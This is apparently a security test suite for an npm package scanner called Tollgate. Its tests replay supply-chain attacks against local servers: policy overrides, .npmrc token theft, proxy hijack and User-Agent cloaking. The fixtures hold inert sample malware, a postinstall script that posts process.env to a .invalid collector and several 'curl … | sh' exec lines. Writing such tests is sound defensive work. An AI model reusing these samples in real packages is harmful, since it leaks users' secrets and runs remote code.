// Issue 19, part A: the gate cannot be turned by what it gates. Each test replays one attack from
// the security review against servers on 127.0.0.1 and asserts that it no longer works. Where the
// attack needs a premise (a token that would be sent, a proxy that would be used), the test shows
// the premise holds when the setting comes from a trusted place, so the test can fail.
// docs/security.md names the test that holds each line of the threat model.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fetchTarball, resolveManifest } from '../src/fetch/fetch.js';
import { fetchPackument } from '../src/registry/packument.js';
import { trustedNpmConfig } from '../src/check/trust.js';
import { loadNpmConfig, npmUserAgent } from '../src/fetch/npm-config.js';
import { redactText, redactUrl } from '../src/io/redact.js';
import { webhookSink } from '../src/feed/alerts.js';
import { scoreFindings } from '../src/score/score.js';
import { analyzeTarball, scanTarget } from '../src/scan.js';
import { packTarball, startRegistry, type FixturePackage, type TestRegistry } from './helpers/registry.js';
import { runCli } from './helpers/run-cli.js';

const pj = (name: string, version: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version, main: 'index.js', ...extra });
// Inert: the collector host is under .invalid and nothing here is ever run.
const STEALER_FILES = (name: string, version: string) => ({
  'package.json': pj(name, version, { scripts: { postinstall: 'node setup.js' } }),
  'index.js': 'module.exports = {};\n',
  'setup.js': "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(body);\n",
});
const CLEAN_FILES = (name: string, version: string) => ({ 'package.json': pj(name, version), 'index.js': `module.exports = (a, b) => a + b; // ${name}\n` });
const clean = (name: string, version: string): FixturePackage => ({ name, version, files: CLEAN_FILES(name, version) });
const PKGS: FixturePackage[] = [clean('base-lib', '1.0.0'), clean('tidy-extra', '1.0.0'), { name: 'env-grabber', version: '2.3.1', files: STEALER_FILES('env-grabber', '2.3.1') }];

const sri = (b: Buffer) => `sha512-${createHash('sha512').update(b).digest('base64')}`;

interface Seen {
  url: string;
  authorization?: string;
  userAgent?: string;
}

/** An HTTP server that records every request (also when used as a proxy) and answers with `handle`. */
async function recorder(handle: (req: http.IncomingMessage, res: http.ServerResponse) => void = (_q, res) => void res.writeHead(404).end()) {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url ?? '', authorization: req.headers.authorization, userAgent: req.headers['user-agent'] });
    handle(req, res);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    seen,
    close: () => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }),
  };
}

let registry: TestRegistry;
let tmp: string;
let repo: string;
let n = 0;
const fresh = () => path.join(tmp, `dl${n++}`);
const savedEnv: Record<string, string | undefined> = {};
const ENV = ['TOLLGATE_CACHE_DIR', 'GITHUB_ACTIONS', 'npm_config_userconfig', 'npm_config_proxy', 'npm_config_https_proxy', 'NO_PROXY', 'no_proxy', 'TG_TEST_TOKEN', 'GITHUB_STEP_SUMMARY'];

const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });

interface LockDep {
  version: string;
  resolved?: string;
  integrity?: string;
}
function lockText(deps: Record<string, LockDep>): string {
  const packages: Record<string, unknown> = { '': { name: 'app', version: '1.0.0', dependencies: Object.fromEntries(Object.entries(deps).map(([k, v]) => [k, v.version])) } };
  for (const [name, d] of Object.entries(deps)) packages[`node_modules/${name}`] = d;
  return JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2) + '\n';
}
const fromRegistry = (name: string, version: string): LockDep => ({ version, resolved: registry.tarballUrl(name, version), integrity: registry.integrityOf(name, version) });
function writeLock(dir: string, deps: Record<string, LockDep>): void {
  fs.writeFileSync(path.join(dir, 'package.json'), pj('app', '1.0.0', { dependencies: Object.fromEntries(Object.entries(deps).map(([k, v]) => [k, v.version])) }));
  fs.writeFileSync(path.join(dir, 'package-lock.json'), lockText(deps));
}

/** `tollgate check` as a workflow would run it: no --registry, npm config from the user level. */
const check = (...args: string[]) => runCli(['check', '--project', repo, '--cache', fresh(), '--no-cache', '--quiet', ...args]);

beforeAll(async () => {
  for (const k of ENV) savedEnv[k] = process.env[k];
  tmp = await fs.promises.mkdtemp(path.join(os.tmpdir(), 'tollgate-trust-'));
  process.env.TOLLGATE_CACHE_DIR = path.join(tmp, 'results');
  delete process.env.GITHUB_ACTIONS;
  // A proxy exclusion in the environment would hide the proxy attack.
  process.env.NO_PROXY = '';
  process.env.no_proxy = '';
  registry = await startRegistry(PKGS);
  // The user's own npm config: the registry and its token, as a CI runner sets them up.
  process.env.TG_TEST_TOKEN = `tg-secret-${process.pid}-${Date.now()}`;
  const userrc = path.join(tmp, 'user.npmrc');
  fs.writeFileSync(userrc, `registry=${registry.url}/\n${registry.url.replace(/^http:/, '')}/:_authToken=\${TG_TEST_TOKEN}\n`);
  process.env.npm_config_userconfig = userrc;
  repo = path.join(tmp, 'repo');
  fs.mkdirSync(repo);
  git('init', '-q', '-b', 'main');
  git('config', 'user.email', 'ci@example.invalid');
  git('config', 'user.name', 'CI');
  writeLock(repo, { 'base-lib': fromRegistry('base-lib', '1.0.0') });
  git('add', '.');
  git('commit', '-qm', 'base');
});

afterAll(async () => {
  for (const k of ENV) {
    if (savedEnv[k] === undefined) delete process.env[k];
    else process.env[k] = savedEnv[k];
  }
  await registry?.close();
  if (tmp) await fs.promises.rm(tmp, { recursive: true, force: true });
});

describe('check: policy and npm settings come from the base commit, never from the change', () => {
  test('a change adding its own malware plus an allow entry and failOn "never" still fails, and the policy change is reported', async () => {
    git('checkout', '-q', '-b', 'pr-allow', 'main');
    writeLock(repo, { 'base-lib': fromRegistry('base-lib', '1.0.0'), 'env-grabber': fromRegistry('env-grabber', '2.3.1') });
    fs.writeFileSync(path.join(repo, 'tollgate.config.json'), JSON.stringify({ failOn: 'never', ignoreDev: true, rules: { 'install-scripts': 'off' }, allow: [{ package: 'env-grabber@2.3.1', reason: 'trust me' }] }));
    git('add', '.');
    git('commit', '-qm', 'add env-grabber, allow it');
    try {
      const r = await check('--base', 'main', '--json');
      expect(r.code, r.stderr).toBe(1);
      const report = JSON.parse(r.stdout) as { check: { failOn: string; policyChanges: Array<{ file: string; lines: string[] }> }; packages: Array<{ name: string; verdict: string; policy: { allowed: unknown }; findings: Array<{ rule: string }> }> };
      expect(report.check.failOn).toBe('malicious');
      expect(report.packages.map((p) => `${p.name}:${p.verdict}:${p.policy.allowed === null}`)).toEqual(['env-grabber:malicious:true']);
      // The rule the change switched off still ran.
      expect(report.packages[0]!.findings.some((f) => f.rule === 'install-scripts')).toBe(true);
      const change = report.check.policyChanges.find((c) => c.file === 'tollgate.config.json');
      expect(change?.lines.join('\n')).toMatch(/would allow env-grabber@2\.3\.1 \(the whole version\): "trust me"/);
      expect(change?.lines.join('\n')).toMatch(/would loosen failOn from "malicious" to "never"/);
      expect(change?.lines.join('\n')).toMatch(/would switch rule install-scripts off/);
      expect(change?.lines.join('\n')).toMatch(/would stop checking dev-only packages/);

      const human = await check('--base', 'main');
      expect(human.stdout).toMatch(/tollgate\.config\.json is changed here: not applied \(the gate used the file at main/);
      const gha = await check('--base', 'main', '--github');
      expect(gha.stdout).toMatch(/^::warning file=tollgate\.config\.json,line=1,title=Tollgate%3A tollgate\.config\.json changed; not applied until merged::would allow env-grabber@2\.3\.1/m);

      // Once merged, the same file is the base's and applies; a pinned --config applies too.
      git('checkout', '-q', 'main');
      git('checkout', '-q', 'pr-allow', '--', 'tollgate.config.json');
      git('commit', '-qm', 'policy reviewed and merged');
      git('checkout', '-q', '-b', 'pr-after', 'main');
      writeLock(repo, { 'base-lib': fromRegistry('base-lib', '1.0.0'), 'env-grabber': fromRegistry('env-grabber', '2.3.1') });
      git('commit', '-qam', 'add env-grabber');
      const merged = await check('--base', 'main', '--json');
      expect(merged.code, merged.stderr).toBe(0);
      expect(JSON.parse(merged.stdout).check.policyChanges).toEqual([]);
    } finally {
      git('checkout', '-q', '-f', 'main');
      git('reset', '-q', '--hard', 'HEAD~1');
    }
  });

  test('a tollgate.config.json pinned with --config is used as given', async () => {
    git('checkout', '-q', '-b', 'pr-pinned', 'main');
    writeLock(repo, { 'base-lib': fromRegistry('base-lib', '1.0.0'), 'env-grabber': fromRegistry('env-grabber', '2.3.1') });
    git('commit', '-qam', 'add env-grabber');
    const pinned = path.join(tmp, 'pinned.json');
    fs.writeFileSync(pinned, JSON.stringify({ allow: [{ package: 'env-grabber@2.3.1', reason: 'reviewed in the workflow repo' }] }));
    try {
      const r = await check('--base', 'main', '--config', pinned);
      expect(r.code, r.stdout + r.stderr).toBe(0);
      expect(r.stdout).toMatch(/allowed by config/);
    } finally {
      git('checkout', '-q', '-f', 'main');
    }
  });

  test("a change's .npmrc cannot send the runner's token to its own host", async () => {
    const attacker = await recorder();
    git('checkout', '-q', '-b', 'pr-npmrc-token', 'main');
    // The lockfile points at the attacker's host (with the real integrity), the .npmrc gives that host the token.
    writeLock(repo, { 'base-lib': fromRegistry('base-lib', '1.0.0'), 'tidy-extra': { version: '1.0.0', resolved: `${attacker.url}/tidy-extra/-/tidy-extra-1.0.0.tgz`, integrity: registry.integrityOf('tidy-extra', '1.0.0') } });
    fs.writeFileSync(path.join(repo, '.npmrc'), `registry=${attacker.url}/\n//127.0.0.1:${attacker.port}/:_authToken=\${TG_TEST_TOKEN}\n`);
    git('add', '.');
    git('commit', '-qm', 'new dep and an npmrc');
    try {
      const r = await check('--base', 'main', '--json');
      const token = process.env.TG_TEST_TOKEN!;
      expect(attacker.seen.length).toBeGreaterThan(0); // the lockfile URL is still fetched (and reported)...
      expect(attacker.seen.map((s) => s.authorization ?? '')).not.toContain(`Bearer ${token}`); // ...without the token
      expect(attacker.seen.every((s) => s.authorization === undefined)).toBe(true);
      expect(r.stdout).not.toContain(token);
      const report = JSON.parse(r.stdout) as { check: { policyChanges: Array<{ file: string; lines: string[] }> }; packages: Array<{ name: string; source: string; findings: Array<{ rule: string }> }> };
      const npmrc = report.check.policyChanges.find((c) => c.file === '.npmrc');
      expect(npmrc?.lines.join('\n')).toMatch(/would set registry = ".*127\.0\.0\.1:\d+\/" \(decides where requests go/);
      expect(npmrc?.lines.join('\n')).toMatch(/_authToken = \(a credential, not shown\)/);
      const tidy = report.packages.find((p) => p.name === 'tidy-extra')!;
      expect(tidy.findings.map((f) => f.rule)).toContain('foreign-registry');
      expect(tidy.source).not.toBe('registry');

      // The premise: read from the working tree (what `audit` and npm itself do), the token goes out.
      const before = attacker.seen.length;
      await runCli(['audit', repo, '--json', '--quiet', '--no-cache', '--cache', fresh()]);
      expect(attacker.seen.slice(before).map((s) => s.authorization)).toContain(`Bearer ${token}`);
    } finally {
      git('checkout', '-q', '-f', 'main');
      await attacker.close();
    }
  });

  test("a change's .npmrc proxy= does not see the user's registry requests or token", async () => {
    const proxy = await recorder((_q, res) => void res.writeHead(502).end());
    git('checkout', '-q', '-b', 'pr-npmrc-proxy', 'main');
    writeLock(repo, { 'base-lib': fromRegistry('base-lib', '1.0.0'), 'tidy-extra': fromRegistry('tidy-extra', '1.0.0') });
    fs.writeFileSync(path.join(repo, '.npmrc'), `proxy=${proxy.url}/\nhttps-proxy=${proxy.url}/\nnoproxy=\n`);
    git('add', '.');
    git('commit', '-qm', 'an innocent-looking npmrc');
    try {
      const from = registry.authorizations.length;
      const r = await check('--base', 'main', '--json');
      expect(r.code, r.stderr).toBe(0);
      expect(proxy.seen).toEqual([]);
      // The user's token went where the user configured it, directly.
      expect(registry.authorizations.slice(from)).toContain(`Bearer ${process.env.TG_TEST_TOKEN}`);
      expect(JSON.parse(r.stdout).check.policyChanges[0].lines.join('\n')).toMatch(/would set proxy = /);

      // The premise: a proxy set at the CI level (trusted) is used, so the attack would have worked.
      process.env.npm_config_proxy = `${proxy.url}/`;
      try {
        await check('--base', 'main', '--json');
      } finally {
        delete process.env.npm_config_proxy;
      }
      expect(proxy.seen.length).toBeGreaterThan(0);
      expect(proxy.seen.map((s) => s.authorization)).toContain(`Bearer ${process.env.TG_TEST_TOKEN}`);
    } finally {
      git('checkout', '-q', '-f', 'main');
      await proxy.close();
    }
  });
});

test("a cafile inside the repository is read as of the base: the change cannot swap the certificates a trusted .npmrc points at", () => {
  const mini = fs.mkdtempSync(path.join(tmp, 'cafile-'));
  const g = (...args: string[]) => execFileSync('git', args, { cwd: mini, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  g('init', '-q', '-b', 'main');
  g('config', 'user.email', 'ci@example.invalid');
  g('config', 'user.name', 'CI');
  fs.mkdirSync(path.join(mini, 'certs'));
  fs.writeFileSync(path.join(mini, 'package.json'), pj('app', '1.0.0'));
  fs.writeFileSync(path.join(mini, 'certs', 'ca.pem'), 'BASE-CERT\n-----END CERTIFICATE-----\n');
  fs.writeFileSync(path.join(mini, '.npmrc'), `cafile=${path.join(mini, 'certs', 'ca.pem')}\n`);
  g('add', '.');
  g('commit', '-qm', 'base');
  fs.writeFileSync(path.join(mini, 'certs', 'ca.pem'), 'ATTACKER-CERT\n-----END CERTIFICATE-----\n');
  const { npmConfig } = trustedNpmConfig(mini, 'main', mini, { env: {} });
  expect(npmConfig.cafile).toBeUndefined();
  expect(JSON.stringify(npmConfig.ca)).toContain('BASE-CERT');
  expect(JSON.stringify(npmConfig.ca)).not.toContain('ATTACKER-CERT');
});

describe('content-addressed: entries without integrity, User-Agent cloaking, the results cache', () => {
  let malicious: Buffer;
  let benign: Buffer;
  beforeAll(async () => {
    malicious = await packTarball(STEALER_FILES('cloak', '1.0.0'));
    benign = await packTarball(CLEAN_FILES('cloak', '1.0.0'));
  });

  /** A lockfile project with one integrity-less entry on `host`. */
  function project(host: string): string {
    const dir = fs.mkdtempSync(path.join(tmp, 'proj-'));
    writeLock(dir, { cloak: { version: '1.0.0', resolved: `${host}/cloak/-/cloak-1.0.0.tgz` } });
    return dir;
  }

  test("a server that answers npm's User-Agent with malware and anything else with a clean file: Tollgate gets what npm gets", async () => {
    const cloaker = await recorder((req, res) => {
      const npm = /^npm\//.test(req.headers['user-agent'] ?? '');
      res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(npm ? malicious : benign);
    });
    try {
      const dir = project(cloaker.url);
      const r = await runCli(['audit', dir, '--json', '--quiet', '--no-cache', '--cache', fresh(), '--registry', registry.url]);
      expect(r.code, r.stderr).toBe(1);
      const p = JSON.parse(r.stdout).packages[0] as { name: string; verdict: string; source: string; integrity: string; findings: Array<{ rule: string }> };
      expect(p.verdict).toBe('malicious');
      // Reported by the sha512 of what was read, from a host that is not the registry.
      expect(p.integrity).toBe(sri(malicious));
      expect(p.source).toBe('remote');
      expect(p.findings.map((f) => f.rule)).toEqual(expect.arrayContaining(['no-integrity', 'foreign-registry']));
      // Fetched once, with npm's own User-Agent format.
      expect(cloaker.seen).toHaveLength(1);
      expect(cloaker.seen[0]!.userAgent).toMatch(new RegExp(`^npm/\\d+\\.\\d+\\.\\d+\\S* node/${process.version.replace(/\./g, '\\.')} ${process.platform} ${process.arch} workspaces/false`));
      // The npm version is the one installed beside the node that runs (a child CLI under another
      // Node may find another npm); the rest must be exactly what this process would send.
      const sansNpm = (ua: string) => ua.replace(/^npm\/\S+/, 'npm/*');
      expect(sansNpm(npmUserAgent({}, {}))).toBe(sansNpm(cloaker.seen[0]!.userAgent));

      // --require-integrity refuses it without a request; check does so by default.
      const strict = await runCli(['audit', dir, '--json', '--quiet', '--no-cache', '--cache', fresh(), '--registry', registry.url, '--require-integrity']);
      expect(strict.code).toBe(2);
      const sp = JSON.parse(strict.stdout).packages[0] as { verdict: string; findings: Array<{ rule: string; severity: string }> };
      expect(sp.verdict).toBe('error');
      expect(sp.findings.find((f) => f.rule === 'no-integrity')?.severity).toBe('high');
      expect(cloaker.seen).toHaveLength(1);

      git('checkout', '-q', '-b', 'pr-no-integrity', 'main');
      writeLock(repo, { 'base-lib': fromRegistry('base-lib', '1.0.0'), cloak: { version: '1.0.0', resolved: `${cloaker.url}/cloak/-/cloak-1.0.0.tgz` } });
      git('commit', '-qam', 'integrity-less dep');
      try {
        const c = await check('--base', 'main', '--json');
        expect(c.code).toBe(2);
        expect(JSON.parse(c.stdout).packages[0].findings.map((f: { rule: string }) => f.rule)).toContain('no-integrity');
        expect(cloaker.seen).toHaveLength(1);
        const opted = await check('--base', 'main', '--json', '--no-require-integrity');
        expect(opted.code).toBe(1);
      } finally {
        git('checkout', '-q', '-f', 'main');
      }
    } finally {
      await cloaker.close();
    }
  });

  test('an entry without integrity is never CLEAN from a cache keyed by its URL: a changed file is fetched and judged again', async () => {
    let serve = benign;
    const shifty = await recorder((_q, res) => void res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(serve));
    try {
      const dir = project(shifty.url);
      const first = await runCli(['audit', dir, '--json', '--quiet', '--cache', fresh(), '--registry', registry.url]);
      expect(first.code, first.stderr).toBe(0);
      expect(JSON.parse(first.stdout).packages[0]).toMatchObject({ verdict: 'clean', integrity: sri(benign) });
      serve = malicious;
      const second = await runCli(['audit', dir, '--json', '--quiet', '--cache', fresh(), '--registry', registry.url]);
      expect(shifty.seen).toHaveLength(2);
      expect(second.code).toBe(1);
      expect(JSON.parse(second.stdout).packages[0]).toMatchObject({ verdict: 'malicious', integrity: sri(malicious), cached: false });
      // The same bytes again: the result is found by their sha512 (still fetched, still with its findings).
      const third = await runCli(['audit', dir, '--json', '--quiet', '--cache', fresh(), '--registry', registry.url]);
      expect(shifty.seen).toHaveLength(3);
      expect(JSON.parse(third.stdout).packages[0]).toMatchObject({ verdict: 'malicious', cached: true });
      expect(JSON.parse(third.stdout).packages[0].findings.map((f: { rule: string }) => f.rule)).toContain('no-integrity');
    } finally {
      await shifty.close();
    }
  });
});

describe('bounded reads and downloads', () => {
  const zeroLink = (file: string) => {
    fs.rmSync(file, { force: true });
    fs.symlinkSync('/dev/zero', file);
  };
  const within = async <T>(ms: number, fn: () => Promise<T>): Promise<T> => {
    const t = performance.now();
    const v = await fn();
    expect(performance.now() - t).toBeLessThan(ms);
    return v;
  };

  test.skipIf(!fs.existsSync('/dev/zero'))('a lockfile, a config or an .npmrc that is a link to /dev/zero (or a FIFO) is an error, not gigabytes of memory', async () => {
    const dir = fs.mkdtempSync(path.join(tmp, 'zero-'));
    writeLock(dir, { 'tidy-extra': fromRegistry('tidy-extra', '1.0.0') });
    zeroLink(path.join(dir, 'package-lock.json'));
    const lock = await within(5000, () => runCli(['audit', dir, '--quiet', '--no-cache', '--cache', fresh()]));
    expect(lock.code).toBe(2);
    expect(lock.stderr).toMatch(/package-lock\.json.*not a regular file \(a character device\)/);

    fs.rmSync(path.join(dir, 'package-lock.json'));
    writeLock(dir, { 'tidy-extra': fromRegistry('tidy-extra', '1.0.0') });
    zeroLink(path.join(dir, '.npmrc'));
    const npmrc = await within(5000, () => runCli(['audit', dir, '--quiet', '--no-cache', '--cache', fresh()]));
    expect(npmrc.code).toBe(2);
    expect(npmrc.stderr).toMatch(/\.npmrc is not a regular file/);
    expect(() => loadNpmConfig({ cwd: dir, env: {} })).toThrow(/not a regular file/);
    fs.rmSync(path.join(dir, '.npmrc'));

    const zeroConfig = path.join(tmp, 'zero.json');
    zeroLink(zeroConfig);
    const config = await within(5000, () => check('--base', 'main', '--config', zeroConfig));
    expect(config.code).toBe(2);
    expect(config.stderr).toMatch(/zero\.json: is not a regular file/);

    const fifo = path.join(tmp, 'fifo.json');
    execFileSync('mkfifo', [fifo]);
    const pipe = await within(5000, () => check('--base', 'main', '--config', fifo));
    expect(pipe.code).toBe(2);
    expect(pipe.stderr).toMatch(/not a regular file \(a named pipe\)/);

    // In the working tree of a change: reported as unusable, the base's policy applies.
    zeroLink(path.join(repo, 'tollgate.config.json'));
    try {
      const tree = await within(5000, () => check('--base', 'main', '--json'));
      expect(tree.code, tree.stderr).toBe(0);
      expect(JSON.parse(tree.stdout).check.policyChanges[0].lines[0]).toMatch(/cannot be used: .*not a regular file/);
    } finally {
      fs.rmSync(path.join(repo, 'tollgate.config.json'));
    }
  });

  /** Serves `body` one byte every `everyMs`: never idle long enough for an idle timeout. */
  const trickle = (body: Buffer, everyMs: number) => (_q: http.IncomingMessage, res: http.ServerResponse) => {
    res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': body.length });
    let i = 0;
    const t = setInterval(() => {
      if (res.destroyed || i >= body.length) {
        clearInterval(t);
        if (!res.destroyed) res.end();
        return;
      }
      res.write(body.subarray(i, ++i));
    }, everyMs);
    res.on('close', () => clearInterval(t));
  };

  test('a tarball or packument sent 1 byte at a time fails at the total deadline with a clear error, and the package is an error', async () => {
    const tgz = await packTarball(CLEAN_FILES('slow', '1.0.0'));
    const slow = await recorder(trickle(tgz, 200));
    const npmConfig = { registry: `${slow.url}/`, 'fetch-retries': '0' };
    try {
      const t0 = performance.now();
      await expect(fetchTarball(`${slow.url}/slow/-/slow-1.0.0.tgz`, { npmConfig, cache: fresh(), timeoutMs: 1000, deadlineMs: 1500 })).rejects.toThrow(/EDEADLINE: the tarball for .* did not arrive within 2 s/);
      expect(performance.now() - t0).toBeLessThan(4000);
      await expect(resolveManifest('slow@1.0.0', { npmConfig, cache: fresh(), timeoutMs: 1000, deadlineMs: 1500 })).rejects.toThrow(/EDEADLINE: the package metadata for "slow@1.0.0"/);
      // The registry-signal packument fetch has its own client, and the same deadline.
      const t1 = performance.now();
      await expect(fetchPackument('slow', { npmConfig, cacheDir: false, timeoutMs: 1000, deadlineMs: 1500 })).rejects.toThrow(/EDEADLINE: registry metadata for "slow"/);
      expect(performance.now() - t1).toBeLessThan(4000);

      const scanned = await scanTarget(`${slow.url}/slow/-/slow-1.0.0.tgz`, { fetch: { npmConfig, cache: fresh(), timeoutMs: 1000, deadlineMs: 1500 } });
      expect(scanned.verdict).toBe('error');
      expect(scanned.error).toMatch(/EDEADLINE/);
    } finally {
      await slow.close();
    }
  });
});

describe('redaction', () => {
  test('credentials are removed from URLs and text: passwords with "/", tokens in query strings, npmrc keys', () => {
    expect(redactUrl('postgres://tollgate:pa/ss@db.invalid:5432/tg')).toBe('postgres://tollgate:***@db.invalid:5432/tg');
    expect(redactUrl('redis://:s3cr/et@127.0.0.1:6379/0')).toBe('redis://:***@127.0.0.1:6379/0');
    expect(redactUrl('https://hooks.invalid/services/T/B?token=abc&channel=x')).toBe('https://hooks.invalid/services/T/B?token=***&channel=x');
    expect(redactUrl('https://npm_TOKEN@registry.invalid/x')).toBe('https://***@registry.invalid/x');
    // What must survive: scoped package paths, ports, plain user names.
    expect(redactUrl('http://127.0.0.1:4873/@scope/pkg/-/pkg-1.0.0.tgz')).toBe('http://127.0.0.1:4873/@scope/pkg/-/pkg-1.0.0.tgz');
    expect(redactUrl('postgres://tollgate@10.0.0.6/tollgate')).toBe('postgres://tollgate@10.0.0.6/tollgate');
    const text = redactText('failed: https://alice:hunter2@hooks.invalid/a?sig=zz and //registry.invalid/:_authToken=npm_abcdef');
    expect(text).not.toMatch(/hunter2|zz|npm_abcdef/);
  });

  test('a webhook URL with credentials never reaches an error or log line whole', async () => {
    const logs: string[] = [];
    const sink = webhookSink('http://alice:hun/ter2@127.0.0.1:9/hook/SECRETPATH?token=t0k', { retry: { baseMs: 1, maxMs: 1 }, timeoutMs: 500, log: (m) => logs.push(m) });
    const r = { name: 'x', version: '1.0.0', integrity: null, score: 90, verdict: 'malicious' as const, findings: [], reasons: ['r'], scannedAt: new Date().toISOString() };
    const err = await sink.deliver(r).then(() => undefined, (e: Error) => e);
    expect(err).toBeInstanceOf(Error);
    for (const line of [err!.message, ...logs]) expect(line).not.toMatch(/hun\/?ter2|SECRETPATH|t0k/);
  });

  test('watch --store postgres://user:pass@... without --queue is refused, and no file named after the password is created', async () => {
    const before = new Set(fs.readdirSync(process.cwd()));
    const r = await runCli(['watch', '--once', '--store', 'postgres://tg:pa/ss-word@127.0.0.1:1/db', '--changes-url', 'http://127.0.0.1:9/', '--registry', 'http://127.0.0.1:9/']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/postgres:\/\/tg:\*\*\*@127\.0\.0\.1:1\/db is a URL/);
    expect(r.stderr + r.stdout).not.toContain('ss-word');
    expect(fs.readdirSync(process.cwd()).filter((f) => !before.has(f))).toEqual([]);
    expect(fs.existsSync(path.join(process.cwd(), 'postgres:'))).toBe(false);
  });
});

describe('confinement', () => {
  test('a lockfile file:/link: target outside the project is a finding and is not read', async () => {
    const outside = fs.mkdtempSync(path.join(tmp, 'outside-'));
    fs.writeFileSync(path.join(outside, 'package.json'), pj('far-away', '1.0.0'));
    fs.writeFileSync(path.join(outside, 'index.js'), 'const marker = "OUTSIDE-MARKER"; require("child_process").exec("curl http://x.invalid/a | sh");\n');
    const dir = fs.mkdtempSync(path.join(tmp, 'proj-'));
    const rel = path.relative(dir, outside);
    fs.writeFileSync(path.join(dir, 'package.json'), pj('app', '1.0.0', { dependencies: { 'far-away': `file:${rel}` } }));
    fs.writeFileSync(
      path.join(dir, 'package-lock.json'),
      JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'app', version: '1.0.0', dependencies: { 'far-away': `file:${rel}` } }, 'node_modules/far-away': { resolved: rel, link: true }, [rel]: { name: 'far-away', version: '1.0.0' } } }),
    );
    const r = await runCli(['audit', dir, '--json', '--quiet', '--no-cache', '--cache', fresh()]);
    expect(r.code).toBe(2);
    const p = (JSON.parse(r.stdout).packages as Array<{ name: string; verdict: string; findings: Array<{ rule: string; file?: string }> }>).find((x) => x.name === 'far-away')!;
    expect(p.verdict).toBe('error');
    expect(p.findings.map((f) => f.rule)).toEqual(['outside-project']);
    expect(r.stdout).not.toContain('OUTSIDE-MARKER');
  });

  test('a bundled dependency that is a symlink out of the scanned folder is a finding and is not followed', async () => {
    const outside = fs.mkdtempSync(path.join(tmp, 'outside-'));
    fs.writeFileSync(path.join(outside, 'package.json'), pj('bundled-dep', '1.0.0'));
    fs.writeFileSync(path.join(outside, 'index.js'), 'require("child_process").exec("curl http://x.invalid/a | sh");\n');
    const dir = fs.mkdtempSync(path.join(tmp, 'folder-'));
    fs.writeFileSync(path.join(dir, 'package.json'), pj('host-pkg', '1.0.0', { dependencies: { 'bundled-dep': '1.0.0' }, bundleDependencies: ['bundled-dep'] }));
    fs.writeFileSync(path.join(dir, 'index.js'), 'module.exports = 1;\n');
    fs.mkdirSync(path.join(dir, 'node_modules'));
    fs.symlinkSync(outside, path.join(dir, 'node_modules', 'bundled-dep'), 'dir');
    const r = await scanTarget(dir, { fetch: { cache: fresh() } });
    expect(r.findings.filter((f) => f.file?.startsWith('node_modules/bundled-dep/'))).toEqual([]);
    const hazard = r.findings.find((f) => f.rule === 'unpack-hazard' && f.file === 'node_modules/bundled-dep');
    expect(hazard?.message).toMatch(/link out of the scanned folder: not followed/);
    expect(r.verdict).not.toBe('clean');
  });
});

describe('manifest confusion and unrepresentable tar names are never clean', () => {
  test('a tarball whose package.json names another package than the registry manifest is at least suspicious', async () => {
    const reg = await startRegistry([{ name: 'confused', version: '1.0.0', files: { 'package.json': pj('someone-else', '1.0.0'), 'index.js': 'module.exports = 1;\n' } }]);
    try {
      const r = await scanTarget('confused@1.0.0', { fetch: { npmConfig: { registry: reg.url }, cache: fresh(), timeoutMs: 5000 }, registry: { cacheDir: fresh() } });
      expect(r.findings.filter((f) => f.rule === 'manifest-confusion' && f.severity === 'high').length).toBeGreaterThan(0);
      expect(r.verdict).toBe('suspicious');
      expect(r.reasons.join('\n')).toMatch(/tarball and registry metadata disagree/);
    } finally {
      await reg.close();
    }
    // The scorer rule alone.
    expect(scoreFindings([{ rule: 'manifest-confusion', severity: 'high', message: 'names "b", the registry says "a"', file: 'package.json' }]).verdict).toBe('suspicious');
    expect(scoreFindings([{ rule: 'manifest-confusion', severity: 'medium', message: 'a new dependency', file: 'package.json' }]).verdict).toBe('clean');
  });

  test('a tar entry whose name ends in a newline (x.js\\n, which Node still runs as JavaScript) is a finding, never clean', async () => {
    const tgz = await packTarball({ 'package.json': pj('nl', '1.0.0', { main: 'x.js\n' }), 'x.js\n': "require('child_process').exec('curl http://x.invalid/a | sh');\n" });
    const r = await analyzeTarball({ data: tgz, spec: 'nl.tgz', source: 'file' });
    expect(r.findings.find((f) => f.rule === 'unpack-hazard')?.message).toMatch(/entry name "x\.js\\n" holds control or invisible characters/);
    expect(r.verdict).not.toBe('clean');
  });
});
